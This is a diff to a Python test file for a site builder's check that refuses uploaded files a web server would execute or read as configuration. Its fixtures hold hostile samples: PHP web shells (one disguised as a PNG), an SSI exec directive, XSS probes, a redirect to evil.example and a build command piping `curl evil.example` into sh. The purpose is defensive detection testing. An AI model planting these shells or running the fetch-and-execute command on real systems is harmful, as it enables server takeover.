@@ -323,6 +323,12 @@ FOREIGN = [
     ("linked.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><a href="https://example.com/"><rect/></a></svg>', None),
     ("notes.txt", b"<script>alert(1)</script>\n", None),
     ("CNAME", b"help.example.com\n", None),
+    (".htaccess", b"AddType text/html .txt\n", (1, 1)),
+    ("returns/_headers", b"/notes.txt\n  Content-Type: text/html\n", (1, 1)),
+    ("shell.php.png", b"\x89PNG<?php system($_GET['c']); ?>", (1, 1)),
+    ("page.bar", b"\n<p>hi</p><script>alert(1)</script>\n", (2, 10)),
+    ("page.html.v2", b"hello\n<script>alert(1)</script>\n", (2, 1)),
+    ("notes.v2.txt", b"<script>alert(1)</script>\n", None),
 ]
 
 
@@ -412,6 +418,97 @@ def test_a_check_reports_the_stale_pages_beside_a_file_a_browser_would_run(init_
     run = run_cli("build", "--root", str(init_repo / "policies"), "--out", str(out))
     assert run.code == 1 and "error[G010]" in run.err and "nothing was written to" in run.err, run
     assert "G005" not in run.err and listing(out) == before, run
+
+
+# Files of others that a web server, not a browser, would run or read as its own configuration, or
+# whose name gives no type a server surely knows: (the file's name, its bytes, what is found or None
+# for a passive file, the reads `runnable` makes: the limits asked for, in order). A web server's
+# configuration and code it runs are refused by their names alone, unread; a known passive type is
+# never read; an unknown extension is sniffed as a file without one (its first 1,445 bytes).
+WHOLE = 16 * 1024 * 1024 + 1
+SERVED: list[tuple[str, bytes, str | None, list[int]]] = [
+    (".htaccess", b"AddType text/html .txt\n", "Apache's configuration of its folder", []),
+    (".HTACCESS", b"AddHandler cgi-script .txt\n", "Apache's configuration of its folder", []),
+    ("returns/.htaccess", b"<Files notes.txt>\nSetHandler cgi-script\n</Files>\n", "Apache's configuration", []),
+    (".user.ini", b"auto_prepend_file=notes.txt\n", "PHP's configuration of its folder", []),
+    ("_headers", b"/notes.txt\n  Content-Type: text/html\n", "the headers Netlify and Cloudflare Pages serve", []),
+    ("_redirects", b"/* https://evil.example/:splat 200\n", "Netlify's and Cloudflare Pages' redirects", []),
+    ("netlify.toml", b'[build]\ncommand = "curl evil.example | sh"\n', "Netlify's configuration", []),
+    ("vercel.json", b'{"headers": []}', "Vercel's configuration", []),
+    ("Web.config", b"<configuration/>", "IIS's and Azure App Service's configuration", []),
+    ("index.php", b"<?php system($_GET['c']);", "a `.php` file, code a web server set up for it runs", []),
+    ("x.phtml", b"<?= 1 ?>", "a `.phtml` file", []),
+    ("cgi-bin/run.cgi", b"echo hi", "a `.cgi` file", []),
+    ("tool.pl", b"print 1;", "a `.pl` file", []),
+    ("tool.py", b"print(1)", "a `.py` file", []),
+    ("default.asp", b"<% x %>", "a `.asp` file", []),
+    ("page.aspx", b"<% x %>", "a `.aspx` file", []),
+    ("page.jsp", b"<% x %>", "a `.jsp` file", []),
+    ("ssi.shtml", b'<!--#exec cmd="id" -->', "a `.shtml` file", []),
+    ("report.PHP.png", b"\x89PNG", "a `.php` file", []),  # (Apache's AddHandler: any extension)
+    (".php", b"<?php 1;", "a `.php` file", []),
+    ("logo.png", b"<script>alert(1)</script>", None, []),
+    ("font.woff2", b"<script>alert(1)</script>", None, []),
+    ("data.json", b"<script>alert(1)</script>", None, []),
+    ("notes.html.txt", b"<script>alert(1)</script>", None, []),  # (Apache: the last type it knows, text)
+    ("foo.bar", b"plain text\n", None, [1445]),
+    ("foo.bar", b"<p>hello</p>", None, [1445, WHOLE]),
+    (
+        "foo.bar",
+        b"<p><img src=x onerror=alert(1)></p>",
+        "an event handler `onerror`, in a file whose name extension `.bar`",
+        [1445, WHOLE],
+    ),
+    ("foo.bar", b"#!/bin/sh\n", "a script to run as a program", [1445]),
+    ("app.js.map", b"{}", "a script or other code a browser runs, in a file Apache serves as `.js`", []),
+    (
+        "page.html.v2",
+        b"hi <script>alert(1)</script>",
+        "a `<script>` element, in a file Apache serves as `.html`",
+        [WHOLE],
+    ),
+    ("page.html.v2", b"hi <p>there</p>", None, [WHOLE, 1445]),
+]
+
+
+@pytest.mark.parametrize("name,data,found,reads", SERVED, ids=[f"{n}-{i}" for i, (n, _, _, _) in enumerate(SERVED)])
+def test_what_a_web_server_runs_or_reads_as_configuration_is_refused_by_name_unread(
+    name: str, data: bytes, found: str | None, reads: list[int]
+) -> None:
+    """An `.htaccess` (`AddType text/html .txt`), a `_headers` file, an `index.php` or a page named
+    `foo.bar` in the output folder passed G010: only scripts, WebAssembly, HTML, SVG and XML by
+    name, and files without a name extension by their first bytes, were refused."""
+    from engine.site.activecontent import runnable
+
+    asked: list[int] = []
+
+    def read(limit: int) -> bytes:
+        asked.append(limit)
+        return data[:limit]
+
+    got = runnable(name, read)
+    assert asked == reads, asked
+    if found is None:
+        assert got is None, got
+        return
+    assert got is not None and got[2].startswith(found), got
+
+
+def test_policyctl_writes_no_name_it_refuses_as_a_web_servers(built_site: Path) -> None:
+    """G010 checks only files of others; and no file a build writes is named as a web server's
+    configuration or code, nor, but its scripts and search pages, would be refused as a file of
+    others (its feeds, Markdown pages and search index files, sniffed or read, are passive)."""
+    from engine.site.activecontent import SERVER_CONFIGURATION, runnable
+
+    files = [p for p in built_site.rglob("*") if p.is_file()]
+    assert not {p.name.lower() for p in files} & set(SERVER_CONFIGURATION), files
+
+    def found(path: Path) -> tuple[int, int, str] | None:
+        return runnable(path.name, lambda limit: path.read_bytes()[:limit])
+
+    own = [p for p in files if p.suffix not in (".js", ".wasm") and p.parent.name != "search"]
+    assert {p.suffix for p in own} >= {".md", ".atom", ".html", ".pf_meta"}, own
+    assert [p for p in own if found(p) is not None] == []
 
 
 # An SVG or XML file of others, read as `runnable` reads it: (its body after an `<svg>` start tag,
